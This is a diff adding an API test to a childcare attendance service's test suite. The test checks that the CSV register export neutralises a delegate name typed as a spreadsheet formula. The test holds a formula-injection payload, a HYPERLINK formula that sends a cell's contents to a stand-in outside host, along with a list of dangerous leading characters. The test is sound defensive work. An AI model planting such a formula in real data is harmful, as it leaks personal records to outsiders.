@@ -3,6 +3,8 @@ guardian's authorisation, incidents told at once, and who may read a child's day
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import timedelta
 
 from tests.api.attendance_world import (
@@ -264,3 +266,35 @@ async def test_the_register_exports_csv_with_names_for_staff_and_pseudonyms_for_
     assert regulator_csv.status_code == 200
     assert "小宝" not in regulator_csv.text and "幼儿-" in regulator_csv.text
     assert (await world.client.get(path, headers=world.fresh(elsewhere.headers))).status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A2,"ok")'
+
+
+async def test_the_register_csv_gives_a_name_typed_as_a_formula_to_the_spreadsheet_as_text(
+    world: World,
+):
+    room = await attending_room(world)
+    child = room.children[0]
+    assert (await check_in(world, room, child)).status_code == 201
+    world.runtime.clock.at = NINE + timedelta(hours=1)  # type: ignore[attr-defined]
+    named = await world.post(f"/v1/children/{child}/delegates",
+                             {"name": FORMULA, "phone": "13900002222", "day": DAY},
+                             room.guardian)  # fmt: skip
+    assert named.status_code == 201, named.text
+    out = await world.post(
+        "/v1/attendance/check-outs",
+        check_out_body(room, child, "13900002222", 30,
+                       collector={"name": "陈明", "phone": "13900002222",
+                                  "identity_check": "id_card"}),
+        room.caregiver,
+    )  # fmt: skip
+    assert out.status_code == 201, out.text
+    path = f"/v1/rooms/{room.room_id}/attendance.csv?date={DAY}"
+    response = await world.client.get(path, headers=world.fresh(room.admin.headers))
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == [], dangerous
+    assert any(c.startswith(f"'{FORMULA}") for c in cells), cells  # as the family typed it
